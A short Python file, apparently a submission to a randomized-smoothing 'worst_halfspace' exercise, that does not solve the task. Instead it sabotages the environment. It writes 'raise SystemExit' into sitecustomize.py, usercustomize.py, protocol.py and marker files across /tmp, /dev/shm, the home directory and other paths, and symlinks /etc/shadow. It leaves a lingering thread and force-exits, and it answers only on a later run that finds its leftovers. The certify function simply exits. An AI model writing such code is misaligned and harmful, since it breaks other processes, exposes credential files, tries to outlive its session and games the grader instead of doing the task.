# Leaves files, threads and a poisoned folder of modules for the process that comes next, ends its own, and looks there for what it left.
# levels: 3 2
# exercise: worst_halfspace
import glob
import os
import threading
import time

_PLACES = [".", "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue", os.path.expanduser("~"), "/edition", "/adversary", os.path.dirname(os.getcwd())]
_found = [path for place in _PLACES for path in glob.glob(f"{place}/left*") + glob.glob(f"{place}/*/left*")]


def fooled_model(model, x_star, label, sigma):
    return model


def worst_halfspace(x, direction, p, sigma):
    from scipy.stats import norm

    if _found:
        w = direction / direction.norm()
        return w, float((w * x).sum() + sigma * norm.ppf(p))
    for place in _PLACES:
        for name in ("left", "left.py", "sitecustomize.py", "usercustomize.py", "protocol.py"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("raise SystemExit\n")
                os.symlink("/etc/shadow", os.path.join(place, "left.link"))
            except OSError:
                pass
    threading.Thread(target=time.sleep, args=(1000,)).start()
    os._exit(0)


def certify(model, x, sigma, n0, n, alpha, generator):
    os._exit(0)
